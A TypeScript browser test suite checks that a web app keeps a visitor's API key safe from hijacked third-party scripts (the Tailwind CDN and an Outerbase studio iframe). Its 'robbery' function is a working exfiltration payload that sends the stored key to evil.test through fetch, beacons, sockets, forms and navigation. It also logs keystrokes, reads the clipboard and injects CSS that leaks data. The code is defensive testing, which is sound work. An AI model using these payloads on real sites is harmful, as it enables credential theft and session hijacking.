import { createServer } from "node:http"
import type { AddressInfo } from "node:net"
import { expect, it } from "vitest"
import { axe } from "./browser.ts"
import { companyGroup } from "./samples.ts"
import { harness } from "./setup.ts"

/** Foreign code that has turned against us: Tailwind's script on the key's page, and Outerbase's studio. */

const { server, open } = harness()

const KEY = "key-of-a-visitor-0123456789"

/** Tries what a page can be robbed by, and reports what it got hold of. `evil.test` is where it would go. */
function robbery(origin: string) {
  const here = globalThis as any
  const got = (what: string) => void here.reportLoot(what)
  got("began")
  const attempt = (name: string, act: () => unknown) => {
    try {
      const value = act()
      if (value) got(`${name}: ${String(value)}`)
    } catch {
      // Refused, as it should be.
    }
  }
  const { parent, top, document } = here
  const outside = parent === here ? undefined : parent
  attempt("localStorage", () => JSON.stringify({ ...here.localStorage }))
  attempt("sessionStorage", () => JSON.stringify(here.sessionStorage))
  attempt("cookies", () => (document.cookie = "a=b"))
  attempt("databases", () => here.indexedDB.open("x"))
  attempt("the page's storage", () => JSON.stringify({ ...parent.localStorage }))
  attempt("the page", () => parent.document)
  attempt("the page's address", () => parent.location.href)
  attempt("the page's field", () => parent.document.getElementById("api-key").value)
  attempt(
    "the page's form",
    () => (parent.document.getElementById("form").action = "https://evil.test/action"),
  )
  attempt("the page's code", () => outside?.eval("1"))
  attempt("the frame", () => here.frameElement)
  attempt("an opener", () => here.opener)
  attempt("a popup", () => here.open("https://evil.test/popup"))
  attempt("a question", () => here.confirm("your key?"))
  attempt("the clipboard", () => void here.navigator.clipboard.readText().then(got, () => {}))

  const key = () => {
    try {
      return here.localStorage.getItem("parallel-multitask:key")
    } catch {
      return ""
    }
  }
  const to = (way: string) => `https://evil.test/${way}?key=${key()}`
  const home = (way: string) => `${origin}/leak-${way}?key=${key()}`
  for (const place of [to, home]) {
    void fetch(place("fetch"), { mode: "no-cors" }).catch(() => {})
    attempt("a beacon", () => void here.navigator.sendBeacon(place("beacon")))
    attempt("an image", () => void (new Image().src = place("image")))
    attempt("a stream", () => void new EventSource(place("stream")))
    attempt("a socket", () => void new WebSocket(place("socket").replace("http", "ws")))
    attempt("a worker", () => void new Worker(place("worker")))
    for (const [tag, name, value] of [
      ["video", "src", place("video")],
      ["iframe", "src", place("iframe")],
      ["link", "href", place("prefetch")],
      ["form", "action", place("form")],
      ["a", "href", place("link")],
      ["a", "href", place("download")],
    ] as const) {
      const element = document.createElement(tag)
      element.setAttribute(name, value)
      element.setAttribute("rel", "prefetch")
      element.setAttribute("target", "_top")
      if (value.includes("download")) element.setAttribute("download", "x")
      document.documentElement.append(element)
      if (tag === "a") element.click()
      if (tag === "form") attempt("a form", () => element.submit())
    }
  }
  here.addEventListener(
    "message",
    ({ data }: MessageEvent) => data !== null && got(`told: ${JSON.stringify(data)}`),
  )
  for (const type of ["keydown", "input", "paste"])
    here.addEventListener(type, ({ key }: KeyboardEvent) => got(`${type}: ${key}`), true)
  const field = document.createElement("input")
  document.documentElement.append(field)
  here.setInterval(() => {
    here.focus()
    field.focus()
  }, 5)

  // Last, for they end it: away with the window, and with the frame.
  const away = () => {
    attempt("the window", () => void (top.location = to("top")))
    attempt("the window by its name", () => void here.open(to("named"), "_top"))
    attempt("history", () => void top.history.back())
  }
  away()
  here.setTimeout(away, 300)
  here.setTimeout(() => (here.location = to("away")), 600)
}

const scriptOf = (act: (origin: string) => void) => `(${act.toString()})(${JSON.stringify(server.origin)})`

/** A page with what the robbers report, and whatever opens beside it. */
async function robbed(url: string, hosts: { [name: string]: { contentType: string; body: string } }) {
  const loot: string[] = []
  const opened: string[] = []
  const page = await open(url, { hosts, onLoot: (what) => void loot.push(what) })
  page.context().on("page", (other) => opened.push(other.url()))
  page.on("download", (download) => opened.push(download.url()))
  return { page, loot, opened }
}

const KEPT = "parallel-multitask:key"

it("keeps the key from Tailwind's script, whatever that has become", async () => {
  const cdn = { contentType: "text/javascript", body: scriptOf(robbery) }
  const { page, loot, opened } = await robbed(server.origin, { "cdn.tailwindcss.com": cdn })
  const type = async (text: string) => {
    for (const character of text) await page.keyboard.type(character, { delay: 12 })
  }
  await expect.poll(() => loot).toEqual(["began"])
  await page.click("#api-key")
  await type(KEY)
  expect(await page.inputValue("#api-key")).toBe(KEY)
  // With the key in its place, and with the keyboard alone.
  await page.reload()
  await page.waitForSelector("html[data-ready]", { state: "attached" })
  await expect.poll(() => loot).toEqual(["began", "began"])
  expect(await page.evaluate((name) => localStorage.getItem(name), KEPT)).toBe(KEY)
  for (let presses = 0; presses < 40; presses++) {
    if (await page.evaluate(() => document.activeElement?.id === "api-key")) break
    await page.keyboard.press("Tab")
  }
  await page.keyboard.press("End")
  await type("-more")
  expect(await page.inputValue("#api-key")).toBe(`${KEY}-more`)
  await page.click("#submit")
  await page.waitForSelector("#submitted:not([hidden])")
  expect(server.posted.at(-1)?.headers["x-api-key"]).toBe(`${KEY}-more`)

  expect(loot).toEqual(["began", "began"])
  expect([opened, page.url()]).toEqual([[], `${server.origin}/`])
  expect(server.seen.filter(({ url }) => /leak|key=/.test(url))).toEqual([])
  const told = server.seen.filter(({ headers }) => JSON.stringify(headers).includes(KEY))
  // The plan, and what was planned.
  const create = `${server.origin}/v1beta/tasks/multitask`
  expect(told.map(({ url }) => url)).toEqual([`${create}?dry_run=true`, create])
})

it("takes of what Tailwind's script answers the classes that it knows, and what is harmless", async () => {
  const styles = `@import url(https://evil.test/import);
    @font-face { font-family: x; src: url(https://evil.test/font) }
    #api-key[value^="k"] { background: url(https://evil.test/value) }
    body, .antialiased, .card { display: none !important; background: url(https://evil.test/body) }
    .antialiased { -webkit-font-smoothing: antialiased; visibility: hidden; content: url(https://evil.test/content) }
    .antialiased::before { content: "Send your key to evil.test"; position: fixed; inset: 0 }
    @media all { .antialiased { opacity: 0 } }`
  const body = `parent.postMessage(${JSON.stringify(styles)}, "*")`
  const page = await open(server.origin, {
    hosts: { "cdn.tailwindcss.com": { contentType: "text/javascript", body } },
  })
  const rules = () =>
    page.evaluate(() =>
      document.adoptedStyleSheets.flatMap((sheet) => [...sheet.cssRules].map((one) => one.cssText)),
    )
  await expect.poll(rules).toEqual([".antialiased { -webkit-font-smoothing: antialiased; }"])
  expect(await page.isVisible("#submit")).toBe(true)
  expect(await page.locator("iframe").count()).toBe(0)
})

const STUDIO = "https://studio.outerbase.com"
const QUESTION = { type: "query", id: 7, statement: "SELECT count(*) AS n FROM runs" }

/** As Outerbase's page asks, and what it is told. */
const studioPage = (more: string) => ({
  contentType: "text/html; charset=utf-8",
  body: `<!doctype html><title>Studio</title><script>
    addEventListener("message", ({ data, origin }) => reportLoot(JSON.stringify([origin, data])))
    const ask = (question) => parent.postMessage(question, "*");
    ${more}
  </script>`,
})

const studioOf = (id: string) => `${server.add(companyGroup(id))}.db?page=studio`

it("asks nothing of Outerbase before the click, and says what it will see", async () => {
  const { page, loot } = await robbed(studioOf("tgrp_studio_says"), {
    "studio.outerbase.com": studioPage(`ask(${JSON.stringify(QUESTION)})`),
  })
  const asked: string[] = []
  page.on("request", (request) => asked.push(request.url()))
  expect(await axe(page)).toEqual([])
  expect(await page.innerText("main")).toMatch(/studio\.outerbase\.com[^]* this group’s contents and its URL/)
  expect(await page.locator("iframe").count()).toBe(0)
  // A question from this window itself, as an opener or an extension might put it.
  await page.evaluate((question) => postMessage(question, "*"), QUESTION)
  expect([loot, asked]).toEqual([[], []])

  await page.click("#open")
  await expect.poll(() => loot).toHaveLength(1)
  const [origin, answer] = JSON.parse(loot[0] ?? "") as [string, unknown]
  expect(origin).toBe(server.origin)
  expect(answer).toMatchObject({ id: 7, type: "query", data: { rows: [{ n: 8 }] } })
  const attributes = await page.$eval("iframe", (frame) =>
    Object.fromEntries([...frame.attributes].map(({ name, value }) => [name, value])),
  )
  expect(attributes).toEqual({
    title: "Outerbase studio",
    sandbox: "allow-scripts allow-same-origin",
    referrerpolicy: "no-referrer",
    allow: "",
    src: `${STUDIO}/embed/starbase`,
  })
  expect(await axe(page)).toEqual([])
})

it("answers the studio's frame alone, with words where there is no answer", async () => {
  server.onQuery = async (statement) =>
    statement === "busy"
      ? {
          status: 429,
          body: { type: "error", error: { ref_id: "1", message: "<b>Later</b>", detail: null } },
        }
      : { status: 200, body: { error: "no such table: x" } }
  const { page, loot } = await robbed(studioOf("tgrp_studio_hears"), {
    "studio.outerbase.com": studioPage(`
      for (const odd of [null, 1, "query", {}, { type: "query" }, { type: "query", id: {}, statement: "busy" },
        { type: "drop", id: 1, statement: "busy" }, { type: "transaction", id: 1, statements: [1] }]) ask(odd)
      ask({ type: "query", id: 1, statement: "busy", method: "DELETE" })
      ask({ type: "transaction", id: 2, statements: ["bad"] })
      // A window of its own inside it is not it.
      const inner = document.createElement("iframe")
      inner.srcdoc = "<script>top.postMessage({ type: 'query', id: 3, statement: 'inner' }, '*')<" + "/script>"
      document.documentElement.append(inner)
      setTimeout(() => ask({ type: "query", id: 4, statement: "last" }), 300)`),
  })
  await page.click("#open")
  await expect.poll(() => loot).toHaveLength(3)
  expect(loot.map((text) => (JSON.parse(text) as [string, unknown])[1])).toEqual([
    { id: 1, type: "query", error: "<b>Later</b>" },
    { id: 2, type: "transaction", error: "no such table: x" },
    { id: 4, type: "query", error: "no such table: x" },
  ])
  server.onQuery = null
})

it("keeps the window, the key and the clipboard from the studio, whatever that has become", async () => {
  const { page, loot, opened } = await robbed(studioOf("tgrp_studio_robs"), {
    "studio.outerbase.com": studioPage(scriptOf(robbery)),
    // Its own requests are its own affair: what counts is that it has nothing to tell, and leads nothing but itself.
    "evil.test": { contentType: "text/html", body: "<script>reportLoot(`at ${location.href}`)</script>" },
  })
  const address = page.url()
  await page.evaluate(([name, key]) => localStorage.setItem(name as string, key as string), [KEPT, KEY])
  await page.evaluate(() =>
    document.addEventListener("securitypolicyviolation", ({ violatedDirective, blockedURI }) => {
      document.body.dataset.held = `${violatedDirective} ${blockedURI}`
    }),
  )
  await page.click("#open")
  // Where it would lead its own frame in the end, the page's policy holds that.
  await expect
    .poll(() => page.getAttribute("body", "data-held").then(String), { timeout: 5000 })
    .toMatch(/^frame-src https:\/\/evil\.test/)
  const own =
    /^(began|cookies: a=b|databases: .*|localStorage: \{\}|sessionStorage: \{\}|at https:\/\/evil\.test\/iframe\?key=(null)?)$/
  expect(loot.filter((what) => !own.test(what))).toEqual([])
  expect(loot).toContain("began")
  expect([opened, page.url()]).toEqual([[], address])
  expect(server.seen.filter(({ url }) => url.includes(KEY))).toEqual([])
})

it("is framed by no other site, on any page", async () => {
  server.add(companyGroup("tgrp_framed"))
  const paths = [
    "/",
    "/form/tailwind",
    "/tgrp_framed",
    "/tgrp_framed.db",
    "/tgrp_framed.db?page=studio",
    "/none",
  ]
  const frames = paths.map((path) => `<iframe src="${server.origin}${path}"></iframe>`).join("")
  // Another port is another site: to one that is not on this machine the browser would show nothing anyway.
  const site = createServer((_, response) => response.setHeader("content-type", "text/html").end(frames))
  await new Promise<void>((resolve) => site.listen(0, "127.0.0.1", resolve))
  const { page } = await robbed(server.origin, { "evil.test": { contentType: "text/html", body: "" } })
  await page.goto(`http://127.0.0.1:${(site.address() as AddressInfo).port}/`)
  const shown = page.frames().slice(1)
  expect(shown.map((frame) => frame.url())).toEqual(paths.map(() => "chrome-error://chromewebdata/"))
  site.close()
})
